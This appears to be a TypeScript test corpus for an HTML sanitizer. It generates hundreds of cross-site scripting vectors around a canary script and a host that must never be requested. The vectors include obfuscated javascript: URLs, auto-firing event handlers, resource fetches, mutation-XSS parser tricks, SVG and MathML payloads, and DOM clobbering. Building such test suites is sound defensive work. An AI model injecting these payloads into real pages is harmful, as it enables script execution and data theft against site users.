/** Where a vector reports to: what it runs, and what it fetches. */
export interface Canary {
  /** JavaScript that tells that it ran. Without quotes, angle brackets or spaces. */
  run: string
  /** An address that must never be asked for, without a scheme: `127.0.0.1:1234/hit/17`. */
  host: string
}

type Vector = (canary: Canary) => string

/** `javascript:` spelled so that browsers still read it. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'java&#x73;cript:',
  '&#106;avascript:',
  'javascript&colon;',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript://%0a',
  'feed:javascript:',
  'view-source:javascript:',
  'vbscript:',
]

/** Elements that run something as soon as they are there, and the attribute they do it with. */
const handlers: readonly [tag: string, attributes: string][] = [
  ['img', 'src=x onerror'],
  ['img', 'src=//{host} onload'],
  ['svg', 'onload'],
  ['svg/onload', 'id=x onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['marquee', 'onstart'],
  ['div', 'tabindex=0 autofocus onfocus'],
  ['p', 'style=animation:x onanimationstart'],
  ['p', 'style=transition:1s ontransitionrun'],
  ['div', 'contenteditable autofocus onfocus'],
  ['xss', 'id=x tabindex=1 autofocus onfocus'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['script', 'src=x onerror'],
  ['a', 'href=https://example.com/ onpointerrawupdate'],
  ['p', 'oncontentvisibilityautostatechange style=content-visibility:auto id'],
  ['dialog', 'open oncancel'],
  ['track', 'onerror'],
  ['isindex', 'type=image src=1 onerror'],
]

/** Ways to fetch something without running anything. */
const fetches = [
  '<img src="http://{host}">',
  '<img srcset="http://{host} 1x">',
  '<picture><source srcset="http://{host}"><img></picture>',
  '<video poster="http://{host}"></video>',
  '<video src="http://{host}" autoplay></video>',
  '<audio src="http://{host}" preload="auto"></audio>',
  '<video><track src="http://{host}" default></video>',
  '<iframe src="http://{host}"></iframe>',
  '<frameset><frame src="http://{host}"></frameset>',
  '<object data="http://{host}"></object>',
  '<embed src="http://{host}">',
  '<portal src="http://{host}"></portal>',
  '<link rel="stylesheet" href="http://{host}">',
  '<link rel="prefetch" href="http://{host}"><link rel="preload" as="image" href="http://{host}">',
  '<link rel="dns-prefetch" href="//{host}"><link rel="preconnect" href="//{host}">',
  '<link rel="icon" href="http://{host}"><link rel="manifest" href="http://{host}">',
  '<meta http-equiv="refresh" content="0;url=http://{host}">',
  '<base href="http://{host}/"><img src="x">',
  '<style>@import url(http://{host});</style>',
  '<style>*{background:url(http://{host})}</style>',
  '<style>@font-face{font-family:x;src:url(http://{host})}*{font-family:x}</style>',
  '<p style="background:url(http://{host})">x</p>',
  '<p style="background-image:image-set(\'http://{host}\' 1x)">x</p>',
  '<ul style="list-style-image:url(http://{host})"><li>x</ul>',
  '<p style="cursor:url(http://{host}),auto">x</p>',
  '<div style="border-image:url(http://{host}) 30">x</div>',
  '<table background="http://{host}"><tr><td background="http://{host}">x</table>',
  '<body background="http://{host}">',
  '<svg><image href="http://{host}" xlink:href="http://{host}"/></svg>',
  '<svg><use href="http://{host}#x"/></svg>',
  '<svg><feImage href="http://{host}"/></svg>',
  '<svg><style>@import "http://{host}"</style></svg>',
  '<svg><foreignObject><img src="http://{host}"></foreignObject></svg>',
  '<input type="image" src="http://{host}">',
  '<a href="https://example.com/" ping="http://{host}">x</a>',
  '<form action="http://{host}"><button autofocus>x</button></form>',
  '<script src="http://{host}"></script>',
  '<script type="module">import "http://{host}"</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["http://{host}"]}]}</script>',
  '<template shadowrootmode="open"><img src="http://{host}"></template>',
  '<div><template shadowrootmode="open"><style>@import "http://{host}"</style></template></div>',
  '<blockquote cite="http://{host}">x</blockquote><q cite="http://{host}">x</q>',
  '<noscript><img src="http://{host}"></noscript>',
  '<img src="http://{host}" loading="eager" fetchpriority="high">',
  '<img crossorigin src=http://{host}><img src=`http://{host}`>',
]

/** Text that a parser reads one way and, written out and read again, another (mutation), and markup from other namespaces. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror={run}>">',
  '<noembed><p title="</noembed><img src=x onerror={run}>">',
  '<noframes><p title="</noframes><img src=x onerror={run}>">',
  '<xmp><p title="</xmp><img src=x onerror={run}>">',
  '<textarea><p title="</textarea><img src=x onerror={run}>">',
  '<title><p title="</title><img src=x onerror={run}>">',
  '<style><p title="</style><img src=x onerror={run}>">',
  '<iframe><p title="</iframe><img src=x onerror={run}>">',
  '<plaintext><img src=x onerror={run}>',
  '<svg></p><style><a id="</style><img src=x onerror={run}>">',
  '<math></p><style><!--</style><img src/onerror={run}>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror={run}></style></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>',
  '<svg><style><img src=x onerror={run}></style></svg>',
  '<svg><desc><style><img src=x onerror={run}></style></desc></svg>',
  '<svg><title><style><img src=x onerror={run}></style></title></svg>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:{run}"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin={run} attributeName=x dur=1s></svg>',
  '<svg><set attributeName=onmouseover to={run}></svg>',
  '<svg><a><animate attributeName=href values=javascript:{run} /><text y=20>x</text></a></svg>',
  '<svg><script>{run}</script></svg>',
  '<svg><script href="data:text/javascript,{run}"/></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:{run}">x</maction></math>',
  '<math href="javascript:{run}">x</math>',
  '<table><td><svg><desc><td></desc></svg><img src=x onerror={run}></table>',
  '<select><template><img src=x onerror={run}></template></select>',
  '<template><script>{run}</script></template><template><img src=x onerror={run}></template>',
  '<div><template shadowrootmode=open><img src=x onerror={run}></template></div>',
  '<!--><img src=x onerror={run}>-->',
  '<!--- --!><img src=x onerror={run}>',
  '<![CDATA[><img src=x onerror={run}>]]>',
  '<?xml version="1.0"?><img src=x onerror={run}>',
  '<<img src=x onerror={run}>',
  '<img src="x` `<script>{run}</script>"` `>',
  '<img """><script>{run}</script>">',
  '<p id="</p><img src=x onerror={run}>">',
  '<a title="--><img src=x onerror={run}>">x</a>',
  '<scr<script>ipt>{run}</scr</script>ipt>',
  '<svg><p><style><g title="</style><img src onerror={run}>">',
  '<b><b><b><b><svg><style>&lt;/style&gt;&lt;img src onerror={run}&gt;',
  '&lt;img src=x onerror={run}&gt;',
  '\u003cimg src=x onerror={run}\u003e',
  '<img src=x onerror\u000c={run}>',
  '<img/src=x/onerror={run}>',
  '<img\u0000src=x onerror={run}>',
  `${'<div>'.repeat(600)}<img src=x onerror={run}>`,
]

/** Scripts as such, and elements that hold documents of their own. */
const scripts = [
  '<script>{run}</script>',
  '<SCRIPT>{run}</SCRIPT>',
  '<script type="module">{run}</script>',
  '<script>/*<!--*/{run}//--></script>',
  '<script src="data:text/javascript,{run}"></script>',
  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
  '<iframe src="javascript:parent.{run}"></iframe>',
  '<object data="javascript:{run}"></object>',
  '<object data="data:text/html,<script>parent.{run}</script>"></object>',
  '<embed src="javascript:{run}">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{run}'/>\">",
  '<form action="javascript:{run}"><input type=submit autofocus></form>',
  '<form id=x></form><button form=x formaction="javascript:{run}">x</button>',
  '<isindex action="javascript:{run}" type=submit>',
  '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
  '<link rel=import href="data:text/html,<script>{run}</script>">',
  '<base href="javascript:/{run}//"><a href=#>x</a>',
  '<style>*{x:expression({run})}</style><p style="x:expression({run})">',
  '<p style="behavior:url(#default#time2)" onbegin={run}>',
]

/** Names that would stand in the way of what scripts of the window ask the document for. */
const clobbers = [
  '<form id=attributes><input name=attributes></form><img src=x onerror={run}>',
  '<form><input name=nodeName><input name=removeAttribute></form><img src=x onerror={run}>',
  '<form name=body></form><img name=currentScript><img name=getElementById>',
  '<a id=wavedrop></a><a id=wavedrop name=invoke href="javascript:{run}">x</a>',
  '<iframe name=wavedrop srcdoc="<script>parent.{run}</script>"></iframe>',
  '<form id=test><input name=parentNode><img src=x onerror={run}></form>',
  '<div id=app><img src=x onerror={run}></div>',
  '<input name=childNodes><svg onload={run}></svg>',
]

const fill =
  (template: string): Vector =>
  ({ run, host }) =>
    template.replaceAll('{run}', run).replaceAll('{host}', host)

/** Every vector known here. */
export const vectors: readonly Vector[] = [
  ...schemes.map((scheme) => fill(`<a href="${scheme}{run}">x</a>`)),
  ...handlers.map(([tag, attributes]) => fill(`<${tag} ${attributes}={run}>x</${tag}>`)),
  ...fetches.map(fill),
  ...mutations.map(fill),
  ...scripts.map(fill),
  ...clobbers.map(fill),
]
